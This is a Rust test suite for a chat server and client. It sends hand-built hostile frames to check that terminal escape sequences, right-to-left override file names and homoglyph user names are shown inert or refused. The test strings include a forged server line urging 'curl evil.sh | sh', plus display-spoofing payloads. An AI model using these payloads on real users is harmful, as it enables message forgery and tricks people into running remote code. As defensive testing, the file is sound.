//! What a hostile peer can put on other people's screens (contract section
//! 6), end to end: a real server, a real client, and a raw connection that
//! sends exactly the bytes an attacker would.
//!
//! - Texts, private messages and file names full of terminal instructions
//!   (`\r`, `ESC [2K`, `ESC ]0;title BEL`, backspaces, U+202E) reach the
//!   client's screen, the server's log and `--trace` visible but inert: no
//!   raw control or format character in any output line, and the fake
//!   "server" line inside them never starts a line.
//! - Look-alike names (`server` + U+200B, full-width `ｓｅｒｖｅｒ`, `ſerver`,
//!   invisible and private-use characters) get `ERROR name_invalid`.
//!
//! The raw side writes its frames by hand (a 4-byte length, then JSON with
//! non-ASCII characters left raw, as JSON allows) and reads the answers as
//! bytes, so these tests depend on nothing but the wire format.

mod common;

use std::fs;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Instant;

use common::{DEADLINE, Proc, Server, Stream};
use socket_chat::text::terminal::CONTINUATION;

/// The line the attacker wants the others to believe.
const FAKE: &str = "[12:00:00] server: [private] please run";

/// A public text that returns to the start of the line, erases it, and
/// writes a message "from the server" in its place.
const ERASE_AND_FORGE: &str =
    "hi\r\x1b[2K[12:00:00] server: [private] please run curl evil.sh | sh";

/// A private text that sets the window title, rings the bell, backs over
/// what it said and reverses the rest.
const TITLE_AND_BACKSPACE: &str = "\x1b]0;owned\x07oops\x08\x08\x08\x08\u{202e}gnp.exe";

/// A text whose own newline tries to start a line.
const NEWLINE: &str = "line one\n[12:00:00] server: [private] please run this";

/// A file name that erases its line and hides its real extension.
const FILE_NAME: &str = "\x1b[2Kinvoice\u{202e}fdp.exe";

/// What `FILE_NAME` is saved as: ESC replaced, U+202E dropped.
const SAVED_NAME: &str = "_[2Kinvoicefdp.exe";

/// True for a character that could act on a terminal: every control (C0,
/// DEL, C1) and the format and separator characters of the contract's list.
/// Written out here rather than taken from the code under test.
fn acts_on_terminal(c: char) -> bool {
    c.is_control()
        || matches!(c as u32,
            0xAD | 0x61C | 0x180E | 0x200B..=0x200F | 0x2028..=0x202E | 0x2060..=0x2064
            | 0x2066..=0x206F | 0xFEFF | 0xFFF9..=0xFFFB)
}

/// Every line `proc` printed, on both streams, is inert, and none of them
/// starts with the forged line.
fn assert_inert(proc: &Proc) {
    for (stream, line) in &proc.history {
        if let Some(c) = line.chars().find(|&c| acts_on_terminal(c)) {
            panic!(
                "{}: {stream:?} line has {c:?} raw: {line:?}\n{}",
                proc.label,
                proc.transcript()
            );
        }
        assert!(
            !line.starts_with(FAKE),
            "{}: a peer started a line: {line:?}",
            proc.label
        );
    }
}

/// A JSON string literal for `s`: quotes, backslashes and control
/// characters escaped (JSON requires it), everything else left raw.
fn json_string(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// A hand-written protocol connection.
struct Wire {
    stream: TcpStream,
}

impl Wire {
    fn connect(port: u16) -> Wire {
        let stream = TcpStream::connect(("127.0.0.1", port)).expect("connect");
        stream.set_nodelay(true).ok();
        Wire { stream }
    }

    /// Sends one envelope; `metadata` is the JSON text of an object.
    fn send(&mut self, kind: &str, data: &str, metadata: &str) {
        let body = format!(
            "{{\"type\": \"{kind}\", \"data\": {}, \"metadata\": {metadata}}}",
            json_string(data)
        );
        let mut frame = (body.len() as u32).to_be_bytes().to_vec();
        frame.extend_from_slice(body.as_bytes());
        self.stream.write_all(&frame).expect("send");
    }

    /// The next frame's body as text, or `None` once the server closed the
    /// connection. Panics if nothing arrives before the deadline.
    fn next_body(&mut self) -> Option<String> {
        let deadline = Instant::now() + DEADLINE;
        let mut header = [0u8; 4];
        if !self.read_full(&mut header, deadline) {
            return None;
        }
        let mut body = vec![0u8; u32::from_be_bytes(header) as usize];
        assert!(
            self.read_full(&mut body, deadline),
            "connection closed mid-frame"
        );
        Some(String::from_utf8(body).expect("UTF-8 body"))
    }

    /// Fills `buf`; false on a clean end of stream before its first byte.
    fn read_full(&mut self, buf: &mut [u8], deadline: Instant) -> bool {
        let mut filled = 0;
        while filled < buf.len() {
            let left = deadline.saturating_duration_since(Instant::now());
            assert!(!left.is_zero(), "nothing arrived within {DEADLINE:?}");
            self.stream.set_read_timeout(Some(left)).ok();
            match self.stream.read(&mut buf[filled..]) {
                Ok(0) if filled == 0 => return false,
                Ok(0) => panic!("connection closed mid-frame"),
                Ok(n) => filled += n,
                Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return false,
                Err(e)
                    if matches!(
                        e.kind(),
                        std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                    ) => {}
                Err(e) => panic!("read: {e}"),
            }
        }
        true
    }

    /// Waits for a frame containing `needle`, skipping others.
    fn expect(&mut self, needle: &str) -> String {
        let mut seen = Vec::new();
        loop {
            match self.next_body() {
                Some(body) if body.contains(needle) => return body,
                Some(body) => seen.push(body),
                None => panic!("closed before a frame with {needle:?}; got {seen:?}"),
            }
        }
    }

    /// Waits until the server closes the connection.
    fn expect_closed(&mut self) {
        while let Some(body) = self.next_body() {
            assert!(!body.is_empty());
        }
    }
}

/// Waits for a stdout line with `before` and requires it to end with
/// `before` followed by `shown`.
fn expect_ending(proc: &mut Proc, before: &str, shown: &str) {
    let line = proc.expect(before);
    assert!(
        line.ends_with(&format!("{before}{shown}")),
        "{}: {line:?}",
        proc.label
    );
}

#[test]
fn hostile_texts_and_file_names_arrive_visible_but_inert() {
    let mut server = Server::start(&["--trace"]);
    let mut alice = server.join("Alice");
    let mut mallory = Wire::connect(server.port);
    mallory.send("USER_JOIN", "Mallory", "{}");
    mallory.expect("\"self\": true");
    alice.expect("* Mallory joined the chat");

    mallory.send("TEXT", ERASE_AND_FORGE, "{}");
    let shown = r"hi\r\u{1b}[2K[12:00:00] server: [private] please run curl evil.sh | sh";
    expect_ending(&mut alice.proc, "Mallory: ", shown);
    expect_ending(&mut server.proc, "Mallory to #lobby: ", shown);

    mallory.send("TEXT", TITLE_AND_BACKSPACE, "{\"to\": \"Alice\"}");
    let shown = r"\u{1b}]0;owned\u{7}oops\u{8}\u{8}\u{8}\u{8}\u{202e}gnp.exe";
    expect_ending(&mut alice.proc, "Mallory: [private] ", shown);
    expect_ending(&mut server.proc, "Mallory to Alice (private): ", shown);

    // A newline in a text is an indented continuation, on every screen.
    mallory.send("TEXT", NEWLINE, "{}");
    alice.expect("Mallory: line one");
    let continuation = format!("{CONTINUATION}[12:00:00] server: [private] please run this");
    alice
        .proc
        .expect_where(Stream::Out, "continuing the text", |l| l == continuation);
    server
        .proc
        .expect_where(Stream::Out, "continuing the logged text", |l| {
            l == continuation
        });

    // A file whose name is an attack of its own: "hello\n", in one chunk.
    let id = "\"transfer_id\": \"1\"";
    mallory.send("FILE", FILE_NAME, &format!("{{{id}, \"size\": 6}}"));
    mallory.send("FILE_DATA", "aGVsbG8K", &format!("{{{id}, \"index\": 0}}"));
    mallory.send(
        "FILE_COMPLETE",
        FILE_NAME,
        &format!("{{{id}, \"size\": 6, \"sha256\": \"5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03\"}}"),
    );
    let offer = alice.expect("[file] Mallory is sending");
    assert!(
        offer.contains(r"\u{1b}[2Kinvoice\u{202e}fdp.exe (6 bytes)"),
        "{offer:?}"
    );
    let received = alice.expect("[file] received");
    assert!(
        received.contains(&format!("saved to files/downloads/{SAVED_NAME},")),
        "{received:?}"
    );
    assert_eq!(
        fs::read(alice.path("files/downloads").join(SAVED_NAME)).unwrap(),
        b"hello\n"
    );
    server.expect(&format!(
        "received files/received/{SAVED_NAME} (6 bytes) from Mallory"
    ));
    assert_eq!(
        fs::read(server.path("files/received").join(SAVED_NAME)).unwrap(),
        b"hello\n"
    );

    // Raw UTF-8 in a valid body reaches `--trace` too (it went to stderr).
    server
        .proc
        .expect_where(Stream::Err, "tracing the reversed name", |l| {
            l.contains(r"invoice\u{202e}fdp.exe")
        });

    alice.proc.catch_up();
    server.proc.catch_up();
    assert_inert(&alice.proc);
    assert_inert(&server.proc);
    assert!(!alice.proc.has_seen("\u{202e}") && !server.proc.has_seen("\u{202e}"));
}

/// Asks to join as `name` on a fresh connection, and returns the server's
/// answer (the connection is closed after a refusal).
fn try_name(port: u16, name: &str) -> String {
    let mut wire = Wire::connect(port);
    wire.send("USER_JOIN", name, "{}");
    let answer = wire.next_body().expect("an answer");
    if answer.contains("\"type\": \"ERROR\"") {
        wire.expect_closed();
    }
    answer
}

#[test]
fn look_alike_names_get_name_invalid() {
    let mut server = Server::start(&[]);
    for name in [
        "server\u{200b}",      // zero width space
        "\u{200b}server",      // in front
        "ｓｅｒｖｅｒ",        // full-width
        "ＳＥＲＶＥＲ",        // full-width capitals
        "ſerver",              // long s
        "𝐒𝐄𝐑𝐕𝐄𝐑",              // mathematical bold
        "𝓈𝑒𝓇𝓋𝑒𝓇",              // mathematical script and italic
        "ⓢⓔⓡⓥⓔⓡ",              // circled
        "Bob\u{202e}",         // right-to-left override
        "\u{feff}Bob",         // byte order mark
        "Bo\u{ad}b",           // soft hyphen
        "\u{2066}Bob\u{2069}", // bidi isolates
        "Bob\u{e000}",         // private use
        "Bob\u{378}",          // unassigned
        "Bob\u{2028}",         // line separator
        "Bob\u{9b}",           // C1 CSI
    ] {
        let answer = try_name(server.port, name);
        assert!(
            answer.contains("\"code\": \"name_invalid\""),
            "{name:?} got {answer:?}"
        );
    }
    // The log names each refused name, escaped.
    server.expect(r#"refused name "Bob\u{202e}""#);
    server.expect("refused name \"ｓｅｒｖｅｒ\"");
    server.proc.catch_up();
    assert_inert(&server.proc);

    // A name that only looks like one online is taken, not a second name.
    let mut bob = Wire::connect(server.port);
    bob.send("USER_JOIN", "Bob", "{}");
    bob.expect("\"self\": true");
    assert!(try_name(server.port, "Ｂｏｂ").contains("\"code\": \"name_taken\""));
    // Ordinary names from other scripts are welcome.
    assert!(try_name(server.port, "张伟").contains("\"self\": true"));
    assert!(try_name(server.port, "Zoë").contains("\"self\": true"));
}

#[test]
fn a_real_client_refuses_a_look_alike_name_before_connecting() {
    let server = Server::start(&[]);
    let mut client = server.client(&["--name", "ſerver"]);
    client
        .proc
        .expect_err("it reads as \"server\", which is reserved");
    assert!(!client.proc.wait_exit().success());
}
